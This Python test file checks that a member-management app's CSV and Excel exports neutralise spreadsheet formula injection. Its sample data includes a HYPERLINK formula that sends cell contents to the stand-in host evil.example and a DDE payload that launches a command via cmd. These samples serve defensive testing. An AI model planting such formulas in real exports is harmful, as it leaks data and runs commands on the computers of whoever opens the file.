"""The member export writes text cells that no spreadsheet runs as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import update

from memberdesk.services.io.member_io import export_members
from memberdesk.services.members.enrolment import MemberForm, enrol
from memberdesk.store.models import Member
from tests.conftest import Shop
from tests.services.io.helpers import manager_approval

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Written before one-line fields refused a formula start (or by another program into the file).
PAYLOADS = {
    "address": '=HYPERLINK("http://evil.example/?d="&A2,"查看地址")',
    "occupation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "+1+1",
    "name": "-张伟",
}


def _export(shop: Shop, path: Path) -> list[list[str]]:
    export_members(shop.db, shop.supervisor, path, approval=manager_approval(shop))
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as f:
            return list(csv.reader(f))
    book = load_workbook(path)
    sheet = book.active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.value is None or cell.data_type == "s", (cell.coordinate, cell.value)
    return [["" if v is None else str(v) for v in r] for r in sheet.iter_rows(values_only=True)]


def test_formula_payloads_are_neutralised_in_csv_and_xlsx(shop: Shop, tmp_path: Path) -> None:
    member = enrol(shop.db, shop.clerk, MemberForm(phone="+4915112345678", name="张伟", notes="=1+1 记得"))
    with shop.db.write() as s:
        s.execute(update(Member).where(Member.id == member).values(**PAYLOADS))
    for name in ("m.csv", "m.xlsx"):
        rows = _export(shop, tmp_path / name)
        cells = [value for row in rows for value in row]
        assert not [c for c in cells if c.startswith(TRIGGERS)]
        assert "'" + PAYLOADS["address"] in cells and "'+4915112345678" in cells and "'-张伟" in cells
        assert "'=1+1 记得" in cells


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(address=st.text(max_size=60), notes=st.text(max_size=30))
def test_no_exported_cell_ever_starts_a_formula(shop: Shop, tmp_path: Path, address: str, notes: str) -> None:
    from sqlalchemy import delete

    from memberdesk.store.models import MemberKey, MemberStats

    with shop.db.write() as s:
        for table in (MemberKey, MemberStats, Member):
            s.execute(delete(table))
    member = enrol(shop.db, shop.clerk, MemberForm(phone="13812345678", name="张伟"))
    # whatever an older version stored (no text rule then); PostgreSQL stores no NUL at all
    stored = {"address": address[:200].replace("\x00", ""), "notes": notes.replace("\x00", "")}
    with shop.db.write() as s:
        s.execute(update(Member).where(Member.id == member).values(**stored))
    for name in ("p.csv", "p.xlsx"):
        for row in _export(shop, tmp_path / name):
            for value in row:
                assert not value.startswith(TRIGGERS), value


def test_every_partner_kind_and_target_group_has_its_words_in_the_file() -> None:
    from memberdesk.domain.vocab import PartnerKind, TargetGroup
    from memberdesk.services.io.member_file_words import CHANNEL_DETAIL

    assert {*PartnerKind, *TargetGroup} <= set(CHANNEL_DETAIL)
